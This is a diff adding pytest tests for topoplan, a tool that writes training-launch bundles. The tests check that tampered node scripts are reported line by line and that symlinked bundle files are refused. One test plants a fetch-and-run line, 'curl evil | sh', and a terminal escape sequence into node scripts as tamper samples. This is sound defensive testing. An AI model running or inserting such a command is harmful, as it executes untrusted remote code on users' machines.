@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import hashlib
 import json
 from collections.abc import Callable
 from dataclasses import replace
@@ -8,7 +9,9 @@ from typing import Any
 
 import pytest
 
+import topoplan
 from tests.emit.samples import CLUSTER, HOSTS, QWEN3_8B, make_spec_and_plan
+from topoplan.check.check import check
 from topoplan.emit.bundle import generate
 from topoplan.emit.write import MANIFEST, write_bundle
 from topoplan.errors import InputError, SpecError
@@ -55,6 +58,51 @@ def test_edited_files_are_told_and_taken_as_they_are(bundle: Path) -> None:
         assert "train.yaml changed since topoplan wrote the bundle" in read.notes[0]
         assert read.files["train.yaml"] == text.encode()
         (bundle / MANIFEST).unlink(missing_ok=True)
+
+
+def test_a_script_that_is_not_what_topoplan_writes_is_told_with_its_lines(bundle: Path) -> None:
+    for name in ("node-01.sh", "node-02.sh"):
+        lines = (bundle / name).read_text().splitlines()
+        at = lines.index("export NCCL_DEBUG=WARN")
+        lines[at : at + 1] = ["export NCCL_DEBUG=INFO\x1b[2J", "curl evil | sh"]
+        del lines[-1]
+        (bundle / name).write_text("\n".join(lines))
+    digests = {file.name: hashlib.sha256(file.read_bytes()).hexdigest() for file in bundle.glob("[!.]*")}
+    (bundle / MANIFEST).write_text(json.dumps({"schema": "topoplan.manifest/1", "files": digests}))  # edited with them
+    read = read_bundle(bundle)
+    assert read.edited == ("node-01.sh", "node-02.sh")
+    assert read.notes == (
+        "node-01.sh, node-02.sh are not what topoplan writes for this plan, and started as found:"
+        f" lines {at + 1} to {at + 2} are changed: `export NCCL_DEBUG=INFO`, `curl evil | sh`;"
+        f' behind line {len(lines)} lacks `-m llamafactory.launcher "$bundle_dir/train.yaml"`',
+    )
+
+
+def test_of_another_version_only_the_list_tells_what_was_edited(bundle: Path) -> None:
+    plan = (bundle / "plan.json").read_text().replace(f'"version": "{topoplan.__version__}"', '"version": "0.0.9"')
+    (bundle / "plan.json").write_text(plan)
+    with (bundle / "node-00.sh").open("a") as script:
+        script.write("# mine\n")
+    notes = read_bundle(bundle).notes
+    assert "node-00.sh, plan.json changed since topoplan wrote the bundle" in notes[0]
+    assert notes[1] == "that scripts were edited is known from the list beside them alone"
+
+
+@pytest.mark.parametrize("name", ["train.yaml", "node-01.sh", "README.md", "plan.json", "hosts.json", MANIFEST])
+def test_a_link_among_the_files_is_not_followed(bundle: Path, tmp_path: Path, name: str) -> None:
+    (bundle / name).rename(tmp_path / "id_rsa")
+    (bundle / name).symlink_to(tmp_path / "id_rsa")
+    message = refused(lambda: read_bundle(bundle))
+    assert (
+        f"{bundle / name}: is a link to {tmp_path / 'id_rsa'}; files of a bundle are not read through links" in message
+    )
+    if name not in ("README.md", "hosts.json"):  # which it does not read
+        assert "is a link to" in refused(lambda: check([str(bundle)]))
+
+
+def test_the_bundle_itself_may_be_reached_through_a_link(bundle: Path, tmp_path: Path) -> None:
+    (tmp_path / "latest").symlink_to(bundle)
+    assert read_bundle(tmp_path / "latest").notes == ()
 
 
 def test_other_files_beside_a_bundle_do_not_travel(bundle: Path) -> None:
